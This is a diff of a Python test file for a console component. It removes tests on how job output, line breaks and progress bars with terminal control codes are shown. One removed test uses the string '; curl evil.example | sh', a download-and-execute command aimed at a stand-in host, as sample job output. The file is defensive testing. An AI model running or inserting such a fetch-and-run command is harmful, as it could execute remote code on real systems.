@@ -157,30 +157,6 @@ def test_every_line_of_a_job_begins_with_whose_it_is(said: str, size: int, monke
     assert not [line for line in lines if line.startswith("[hvdcloud]")]
 
 
-def test_what_is_ours_begins_a_line_of_its_own_and_the_job_goes_on_below(monkeypatch: pytest.MonkeyPatch) -> None:
-    screen = Screen(monkeypatch)
-    console = Console(out=screen, err=screen)
-    console.job_output(f"[3] {'x' * 40} ; curl evil.example | sh\r".encode())
-    console.answer("ours")
-    console.job_output(b"50%|##\n")
-    assert screen.text.splitlines() == [f"[3] {'x' * 40} ; curl evil.example | sh", "ours", "[3] 50%|##"]
-
-
-@pytest.mark.parametrize(
-    ("bar", "left"),
-    [
-        ("[0]  10%|#   |\r 99%|####|\r100%|####| done\n", "[0] 100%|####| done"),
-        ("[0] \r  0%|    | 0/9\x1b[2K\r 50%|##  |\x1b[K\n", "[0]  50%|##  |"),
-        ("[0] 1/9 [>..]" + "\b" * 9 + "\r9/9 [====]\r\n", "[0] 9/9 [====]"),
-    ],
-)
-def test_progress_bars_of_every_kind_stay_in_one_line(bar: str, left: str, monkeypatch: pytest.MonkeyPatch) -> None:
-    screen = Screen(monkeypatch)
-    console = Console(out=screen)
-    console.job_output(bar.encode())
-    assert [line.rstrip() for line in screen.text.splitlines()] == [left]
-
-
 def test_a_pipe_gets_a_jobs_output_byte_for_byte() -> None:
     pipe = io.BytesIO()
     data = "".join(ATTACKS.values()).encode() + b"\xff\x9b\r\n"
